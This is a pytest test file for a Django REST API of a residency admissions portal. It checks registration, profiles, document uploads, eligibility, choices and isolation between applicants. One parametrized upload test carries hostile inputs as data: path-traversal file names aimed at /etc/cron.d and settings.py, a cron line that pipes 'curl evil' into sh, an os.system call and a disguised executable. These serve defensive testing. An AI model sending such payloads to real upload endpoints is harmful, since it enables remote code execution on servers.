"""The applicant's own data through the API: registration, profile, education, documents, the plan
marked eligible or not, and the choice — each applicant sees and changes only its own."""

import datetime
import os
import uuid
import zoneinfo
from pathlib import Path

import pytest
import time_machine
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from rest_framework.test import APIClient

from admissions.api.applicant import RegisterThrottle
from admissions.models import Applicant, ApplicantDocument, Application, ApplicationStatus, EducationRecord
from bases.models import Quota, SpecialtyBase
from bases.services.quotas import do_set_quota
from policy.identity import make_resident_id
from portal.uploads import MAX_DOCUMENT_BYTES, private_storage
from tests import factories
from tests.applicant_helpers import PDF, PNG, complete_applicant
from tests.factories import api_client as api

SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")
ROUND1 = datetime.datetime(2026, 4, 10, 9, tzinfo=SHANGHAI)
AFTER_ROUND1 = datetime.datetime(2026, 4, 24, 0, 0, tzinfo=SHANGHAI)
PASSWORD = "Residency-2026!"


@pytest.fixture(autouse=True)
def fresh_throttle():
    # The registration throttle counts in the cache; each test starts with none counted.
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def plan(world):
    surgery = factories.specialty_base(world["xiehe"], factories.specialty("0900", "外科"), capacity=8)
    gp = factories.specialty_base(world["tongji"], factories.specialty("0700", "全科"), capacity=8)
    for base in (world["xiehe_internal"], surgery, gp):
        do_set_quota(actor=None, campaign=world["hubei_campaign"], specialty_base=base, places=3)
    return {
        "internal": world["xiehe_internal"],
        "surgery": surgery,
        "gp": gp,
        "tongji_internal": world["tongji_internal"],
        "campaign": world["hubei_campaign"],
    }


def _multipart(fields, filename, content):
    """A multipart body built by hand, so the file name reaches the server exactly as given (the
    test client would strip its directories first)."""
    boundary = uuid.uuid4().hex
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        "Content-Type: application/pdf\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    return b"".join(parts) + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def _upload(client, filename, content, kind="diploma"):
    body, content_type = _multipart({"kind": kind}, filename, content)
    return client.generic("POST", reverse("api-my-documents"), body, content_type=content_type)


def _stored_files():
    root = Path(private_storage.location)
    return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()


# --- Registration ----------------------------------------------------------------------------------


def test_registration_opens_a_signed_in_account_with_a_checklist(db):
    client = api()
    response = client.post(
        reverse("api-register"), {"login": "13812345678", "password": PASSWORD, "full_name": " 张三 "}, format="json"
    )
    assert response.status_code == 201, response.content
    profile = response.json()
    assert (profile["login"], profile["full_name"], profile["mobile"]) == ("13812345678", "张三", "13812345678")
    assert "password" not in profile
    missing = {item["key"] for item in profile["missing"]}
    assert {"identity", "education", "declares_fit", "id_front", "id_back", "diploma"} <= missing
    # Registered means signed in: the same session reads its own profile.
    assert client.get(reverse("api-me")).json()["id"] == profile["id"]


def test_a_second_registration_with_the_same_login_is_refused_with_a_message(db):
    first = api().post(
        reverse("api-register"), {"login": "Li@Example.com", "password": PASSWORD, "full_name": "李四"}, format="json"
    )
    assert first.status_code == 201 and first.json()["login"] == "li@example.com"
    again = api().post(
        reverse("api-register"), {"login": "li@example.com", "password": PASSWORD, "full_name": "李四"}, format="json"
    )
    assert again.status_code == 409
    assert again.json()["code"] == "duplicate" and "已注册" in again.json()["detail"]
    assert Applicant.objects.count() == 1


@pytest.mark.parametrize(
    ("payload", "field_or_detail", "text"),
    [
        ({"login": "zhangsan", "password": PASSWORD, "full_name": "张三"}, "detail", "11位手机号码"),
        ({"login": "1381234567", "password": PASSWORD, "full_name": "张三"}, "detail", "11位手机号码"),
        ({"login": "13812345678", "password": "123", "full_name": "张三"}, "detail", ""),
        ({"login": "13812345678", "full_name": "张三"}, "password", ""),
        ({"login": "13812345678", "password": PASSWORD, "full_name": "  "}, "full_name", ""),
    ],
)
def test_bad_registrations_are_refused_with_a_message(db, payload, field_or_detail, text):
    response = api().post(reverse("api-register"), payload, format="json")
    assert response.status_code == 400
    assert field_or_detail in response.json() and text in str(response.json()[field_or_detail])
    assert not Applicant.objects.exists()


def test_registration_is_throttled_per_client(db, monkeypatch):
    monkeypatch.setattr(RegisterThrottle, "rate", "2/hour")
    statuses = [
        api()
        .post(reverse("api-register"), {"login": f"1381234567{n}", "password": PASSWORD, "full_name": "张三"})
        .status_code
        for n in range(3)
    ]
    assert statuses == [201, 201, 429]
    assert Applicant.objects.count() == 2


# --- Profile -------------------------------------------------------------------------------------


def test_the_profile_is_the_callers_own_and_the_id_number_is_derived(db):
    me, other = complete_applicant(1), complete_applicant(2)
    client = api(me.user)
    profile = client.get(reverse("api-me")).json()
    assert profile["id"] == me.pk and profile["login"] == me.user.username and profile["missing"] == []
    assert profile["id_number"] == me.id_number  # the owner sees its own number in full
    assert other.full_name not in str(profile) and other.id_number not in str(profile)

    number = make_resident_id("420102", datetime.date(1998, 7, 15), 124)  # sequence ends even: female
    changed = client.patch(
        reverse("api-me"),
        {
            "id_number": number,
            "birth_date": "2000-01-01",
            "employer": "武汉市第一医院",
            "held_certificate_specialties": [],
        },
        format="json",
    )
    assert changed.status_code == 200, changed.content
    body = changed.json()
    assert (body["id_number"], body["birth_date"], body["sex"]) == (number, "1998-07-15", "female")
    assert body["employer"] == "武汉市第一医院" and body["full_name"] == me.full_name  # the rest unchanged
    other.refresh_from_db()
    assert other.employer == ""


def test_bad_profile_input_is_refused_with_a_message(db):
    me, other = complete_applicant(1), complete_applicant(2)
    client = api(me.user)
    wrong_check_digit = me.id_number[:-1] + ("0" if me.id_number[-1] != "0" else "1")
    bad = client.patch(reverse("api-me"), {"id_number": wrong_check_digit}, format="json")
    assert bad.status_code == 400 and "校验位" in bad.json()["detail"]
    taken = client.patch(reverse("api-me"), {"id_number": other.id_number}, format="json")
    # Refused without saying another account has it (no oracle of registered numbers).
    assert taken.status_code == 409 and taken.json()["code"] == "identity_unavailable"
    assert "其他账号" not in taken.json()["detail"] and "占用申诉" in taken.json()["detail"]
    unknown = client.patch(reverse("api-me"), {"held_certificate_specialties": ["9999"]}, format="json")
    assert unknown.status_code == 400 and "9999" in str(unknown.json()["held_certificate_specialties"])
    master = client.patch(reverse("api-me"), {"applicant_type": "professional_master"}, format="json")
    assert master.status_code == 400 and "二(三)2-3" in master.json()["detail"]
    me.refresh_from_db()
    assert me.applicant_type == "open_recruitment"


def test_certificates_held_are_set_by_specialty_code(plan):
    me = complete_applicant()
    response = api(me.user).patch(reverse("api-me"), {"held_certificate_specialties": ["0900"]}, format="json")
    assert response.status_code == 200 and response.json()["held_certificate_specialties"] == ["0900"]
    rows = api(me.user).get(reverse("api-my-eligibility")).json()["results"]
    surgery = next(row for row in rows if row["specialty_code"] == "0900")
    assert not surgery["eligible"] and [r["clause"] for r in surgery["reasons"]] == ["二(四)1"]


# --- Education and documents ---------------------------------------------------------------------


def test_education_records_are_added_listed_and_removed(db):
    me = complete_applicant()
    client = api(me.user)
    added = client.post(
        reverse("api-my-educations"),
        {
            "school": "武汉大学",
            "major": "临床医学",
            "major_category": "clinical",
            "degree_level": 3,
            "graduation_date": "2029-06-30",
        },
        format="json",
    )
    assert added.status_code == 201 and added.json()["full_time"] is True
    listed = client.get(reverse("api-my-educations")).json()["results"]
    assert [row["school"] for row in listed] == ["华中科技大学", "武汉大学"]
    bad = client.post(reverse("api-my-educations"), {"school": "武汉大学", "degree_level": 9}, format="json")
    assert bad.status_code == 400 and {"degree_level", "major", "graduation_date"} <= set(bad.json())
    assert client.delete(reverse("api-my-education", args=[added.json()["id"]])).status_code == 204
    assert list(EducationRecord.objects.filter(applicant=me).values_list("school", flat=True)) == ["华中科技大学"]


def test_a_document_is_uploaded_listed_downloaded_and_deleted(db, django_capture_on_commit_callbacks):
    me = complete_applicant()
    client = api(me.user)
    response = _upload(client, "资格证书.png", PNG, kind="qualification")
    assert response.status_code == 201, response.content
    document = response.json()
    assert (document["kind"], document["original_name"], document["size"]) == (
        "qualification",
        "资格证书.png",
        len(PNG),
    )
    assert {row["kind"] for row in client.get(reverse("api-my-documents")).json()["results"]} == {
        "id_front",
        "id_back",
        "diploma",
        "qualification",
    }
    download = client.get(document["download_url"])
    assert download.status_code == 200 and b"".join(download.streaming_content) == PNG
    assert download["Content-Type"] == "image/png" and download["X-Content-Type-Options"] == "nosniff"
    assert "attachment" in download["Content-Disposition"]
    assert client.get(document["download_url"], HTTP_ACCEPT="image/png").status_code == 200
    stored = ApplicantDocument.objects.get(pk=document["id"]).file.path
    with django_capture_on_commit_callbacks(execute=True):
        assert client.delete(reverse("api-my-document", args=[document["id"]])).status_code == 204
    assert not ApplicantDocument.objects.filter(pk=document["id"]).exists() and not os.path.exists(stored)


@pytest.mark.parametrize(
    ("filename", "content", "message"),
    [
        ("毕业证书.pdf", b"MZ\x90\x00\x03\x00\x00\x00 a Windows executable", "只接受 PDF、JPEG 或 PNG"),
        ("diploma.pdf", b"%PDF-1.4\n" + b"0" * MAX_DOCUMENT_BYTES, "不能超过 10 MB"),
        ("../../../../etc/cron.d/evil.pdf", b"* * * * * root sh -c 'curl evil | sh'\n", "只接受 PDF、JPEG 或 PNG"),
        ("..\\..\\..\\portal\\settings.py", b"import os\nos.system('id')\n", "只接受 PDF、JPEG 或 PNG"),
        ("..", PDF, "请选择要上传的文件"),
        ("diploma.pdf", b"", "文件为空"),
    ],
    ids=["renamed-executable", "oversize", "traversal-script", "traversal-backslashes", "dot-dot-name", "empty"],
)
def test_upload_abuse_gets_a_clear_error_and_stores_nothing(db, filename, content, message):
    me = complete_applicant()
    rows, files = ApplicantDocument.objects.count(), _stored_files()
    response = _upload(api(me.user), filename, content)
    assert response.status_code == 400
    assert message in str(response.json())
    assert ApplicantDocument.objects.count() == rows
    assert _stored_files() == files


def test_a_traversal_name_never_becomes_a_path(db):
    """A genuine PDF with a traversal name is kept under a random name inside the private folder;
    the name it came with is reduced to a display name."""
    me = complete_applicant()
    files = _stored_files()
    response = _upload(api(me.user), "../../../../var/www/html/index.pdf", PDF)
    assert response.status_code == 201 and response.json()["original_name"] == "index.pdf"
    (new,) = _stored_files() - files
    assert new.parent == Path(private_storage.location) / "applicantdocument" and "index" not in new.name


# --- One applicant cannot reach another's data ---------------------------------------------------


def test_applicant_a_cannot_read_or_change_bs_objects(plan):
    a, b = complete_applicant(1), complete_applicant(2)
    with time_machine.travel(ROUND1, tick=False):
        assert (
            api(b.user).post(reverse("api-my-applications"), {"specialty_base": plan["internal"].pk}).status_code == 201
        )
    b_education = b.educations.get()
    b_document = b.documents.get(kind="diploma")
    b_application = Application.objects.get(applicant=b)
    client = api(a.user)
    with time_machine.travel(ROUND1, tick=False):
        attempts = [
            client.get(reverse("api-my-document-file", args=[b_document.pk])),
            client.delete(reverse("api-my-document", args=[b_document.pk])),
            client.delete(reverse("api-my-education", args=[b_education.pk])),
            client.post(reverse("api-my-application-withdraw", args=[b_application.pk])),
        ]
    for response in attempts:  # not found, as if it did not exist: no sign of B's data
        assert response.status_code == 404
        assert b.full_name.encode() not in response.content and b"diploma" not in response.content
    # Nothing of B's moved, and A's own lists and profile show only A.
    assert b.educations.count() == 1 and b.documents.count() == 3 and os.path.exists(b_document.file.path)
    assert Application.objects.get(pk=b_application.pk).status == ApplicationStatus.ACTIVE
    for name in ("api-me", "api-my-educations", "api-my-documents", "api-my-applications"):
        body = client.get(reverse(name)).content.decode()
        assert b.full_name not in body and b.id_number not in body
    assert client.get(reverse("api-my-applications")).json()["count"] == 0
    assert {row["id"] for row in client.get(reverse("api-my-documents")).json()["results"]} == set(
        a.documents.values_list("pk", flat=True)
    )


def test_only_applicants_with_a_profile_may_use_the_applicant_api(plan, people):
    a = complete_applicant()
    with time_machine.travel(ROUND1, tick=False):
        application = api(a.user).post(reverse("api-my-applications"), {"specialty_base": plan["internal"].pk}).json()
    document = a.documents.first()
    requests = [
        ("get", reverse("api-me")),
        ("patch", reverse("api-me")),
        ("get", reverse("api-my-educations")),
        ("post", reverse("api-my-educations")),
        ("delete", reverse("api-my-education", args=[a.educations.get().pk])),
        ("get", reverse("api-my-documents")),
        ("post", reverse("api-my-documents")),
        ("delete", reverse("api-my-document", args=[document.pk])),
        ("get", reverse("api-my-document-file", args=[document.pk])),
        ("get", reverse("api-my-eligibility")),
        ("get", reverse("api-my-applications")),
        ("post", reverse("api-my-applications")),
        ("post", reverse("api-my-application-withdraw", args=[application["id"]])),
    ]
    # The Xiehe office may read A's documents on its pages (A chose Xiehe), but not through this API.
    outsiders = [people[who] for who in ("province", "xiehe_office", "xiehe_staff", "employer", "applicant")]
    for user in [*outsiders, None]:  # "applicant": the role without a profile; None: not signed in
        client = api(user)
        for method, url in requests:
            assert getattr(client, method)(url, {}, format="json").status_code == 403, (user, method, url)
    assert a.documents.count() == 3 and a.educations.count() == 1
    assert Application.objects.get().status == ApplicationStatus.ACTIVE


def test_a_session_needs_the_csrf_token_to_change_anything(db):
    me = complete_applicant()
    client = APIClient(enforce_csrf_checks=True)
    client.force_login(me.user)
    assert client.get(reverse("api-me")).status_code == 200
    refused = client.patch(reverse("api-me"), {"employer": "某医院"}, format="json")
    assert refused.status_code == 403 and "CSRF" in refused.json()["detail"]


# --- The plan, marked eligible or not ------------------------------------------------------------


def test_the_plan_marks_each_specialty_base_with_its_clause(plan):
    # Graduated 2023, full-time clinical bachelor, no qualification certificate: general practice only.
    old_graduate = complete_applicant(graduated=datetime.date(2023, 6, 30))
    response = api(old_graduate.user).get(reverse("api-my-eligibility"))
    assert response.status_code == 200
    rows = {row["specialty"]: row for row in response.json()["results"]}
    assert set(rows) == {"内科", "外科", "全科"}
    assert rows["全科"]["eligible"] is True and rows["全科"]["reasons"] == []
    for name in ("内科", "外科"):
        assert rows[name]["eligible"] is False
        (reason,) = rows[name]["reasons"]
        assert reason["clause"] == "二(二)3" and "全科" in reason["message"]
    assert rows["全科"]["specialty_base"] == plan["gp"].pk
    fresh = api(complete_applicant(2).user).get(reverse("api-my-eligibility")).json()["results"]
    assert all(row["eligible"] for row in fresh)


def test_the_plan_can_be_asked_for_by_campaign_and_filtered(plan, world):
    client = api(complete_applicant().user)
    shortage = client.get(reverse("api-my-eligibility"), {"campaign": plan["campaign"].pk, "city": "武汉市"})
    assert shortage.status_code == 200 and shortage.json()["count"] == 3
    hunan = client.get(reverse("api-my-eligibility"), {"campaign": world["hunan_campaign"].pk})
    assert hunan.status_code == 200 and hunan.json()["count"] == 0
    assert client.get(reverse("api-my-eligibility"), {"campaign": "abc"}).status_code == 400
    assert client.get(reverse("api-my-eligibility"), {"campaign": 999999}).status_code == 404
    assert client.get(reverse("api-my-eligibility"), {"specialty": "x"}).status_code == 400


# --- Choosing ------------------------------------------------------------------------------------


def test_submit_repeat_change_and_withdraw_inside_the_window(plan):
    me = complete_applicant()
    client = api(me.user)
    url = reverse("api-my-applications")
    with time_machine.travel(ROUND1, tick=False):
        first = client.post(url, {"specialty_base": plan["internal"].pk}, format="json")
        assert first.status_code == 201, first.content
        assert (first.json()["round"], first.json()["status"], first.json()["specialty"]) == (1, "active", "内科")
        again = client.post(url, {"specialty_base": plan["internal"].pk}, format="json")
        assert again.status_code == 200 and again.json()["id"] == first.json()["id"]
        changed = client.post(url, {"specialty_base": plan["surgery"].pk}, format="json")
        assert changed.status_code == 201 and changed.json()["id"] != first.json()["id"]
        history = client.get(url).json()["results"]
        assert [(row["id"], row["status"]) for row in history] == [
            (changed.json()["id"], "active"),
            (first.json()["id"], "changed"),
        ]
        assert history[1]["ended_at"] is not None and history[0]["training_base_name"] == "协和医院"
        withdrawn = client.post(reverse("api-my-application-withdraw", args=[changed.json()["id"]]))
        assert withdrawn.status_code == 200 and withdrawn.json()["status"] == "withdrawn"
        twice = client.post(reverse("api-my-application-withdraw", args=[changed.json()["id"]]))
        assert twice.status_code == 409 and "已撤回" in twice.json()["detail"]
    assert not Application.objects.filter(status=ApplicationStatus.ACTIVE).exists()


def test_outside_the_window_the_choice_is_refused_with_the_window(plan):
    me = complete_applicant()
    client = api(me.user)
    with time_machine.travel(AFTER_ROUND1, tick=False):
        response = client.post(reverse("api-my-applications"), {"specialty_base": plan["internal"].pk}, format="json")
    assert response.status_code == 409
    assert response.json()["code"] == "window_closed" and "04月23日24时" in response.json()["detail"]
    assert not Application.objects.exists()
    with time_machine.travel(ROUND1, tick=False):
        application = client.post(reverse("api-my-applications"), {"specialty_base": plan["internal"].pk}).json()
    with time_machine.travel(AFTER_ROUND1, tick=False):
        late = client.post(reverse("api-my-application-withdraw", args=[application["id"]]))
    assert late.status_code == 409 and "已截止" in late.json()["detail"]


def test_an_ineligible_or_incomplete_choice_is_refused_with_its_reasons(plan):
    old_graduate = complete_applicant(graduated=datetime.date(2023, 6, 30))
    bare = api()
    bare.post(reverse("api-register"), {"login": "bare@example.com", "password": PASSWORD, "full_name": "新用户"})
    url = reverse("api-my-applications")
    with time_machine.travel(ROUND1, tick=False):
        refused = api(old_graduate.user).post(url, {"specialty_base": plan["internal"].pk}, format="json")
        incomplete = bare.post(url, {"specialty_base": plan["gp"].pk}, format="json")
        unknown = api(old_graduate.user).post(
            url, {"specialty_base": SpecialtyBase.objects.order_by("pk").last().pk + 1}
        )
        no_plan = api(old_graduate.user).post(url, {"specialty_base": plan["tongji_internal"].pk})
        allowed = api(old_graduate.user).post(url, {"specialty_base": plan["gp"].pk}, format="json")
    assert refused.status_code == 400 and refused.json()["code"] == "not_eligible"
    assert [reason["clause"] for reason in refused.json()["reasons"]] == ["二(二)3"]
    assert incomplete.status_code == 400 and "身份证件信息" in incomplete.json()["detail"]
    assert unknown.status_code == 400 and "不存在" in str(unknown.json()["specialty_base"])
    assert no_plan.status_code == 400 and no_plan.json()["code"] == "no_plan"
    assert allowed.status_code == 201 and allowed.json()["specialty_code"] == "0700"


# --- Query counts --------------------------------------------------------------------------------


def _queries(client, url, params=None):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url, params or {})
    assert response.status_code == 200
    return len(captured)


def test_eligibility_queries_stay_flat_from_10_to_1000_rows(world):
    campaign = world["hubei_campaign"]
    client = api(complete_applicant(graduated=datetime.date(2023, 6, 30)).user)
    url = reverse("api-my-eligibility")
    factories.grow_plan(campaign, 10)
    _queries(client, url)  # the first request fills the cache (the campaign, the applicant's records)
    small = _queries(client, url)
    factories.grow_plan(campaign, 990)
    assert Quota.objects.filter(campaign=campaign).count() == 1000
    assert _queries(client, url) == small
    assert _queries(client, url, {"page": 2}) == small
    page = client.get(url, {"page": 2}).json()
    assert page["count"] == 1000 and len(page["results"]) == 100
    assert not any(row["eligible"] for row in page["results"])  # none of them is general practice


def test_application_history_queries_stay_flat_as_it_grows(world):
    campaign = world["hubei_campaign"]
    me = complete_applicant()
    client = api(me.user)
    url = reverse("api-my-applications")
    bases = factories.grow_plan(campaign, 200)

    def history(rows):
        Application.objects.bulk_create(
            [
                Application(applicant=me, campaign=campaign, round=1, specialty_base=base, status="changed")
                for base in rows
            ]
        )

    history(bases[:10])
    small = _queries(client, url)
    history(bases[10:])
    assert _queries(client, url) == small
    assert _queries(client, url, {"page": 2}) == small
    assert client.get(url).json()["count"] == 200
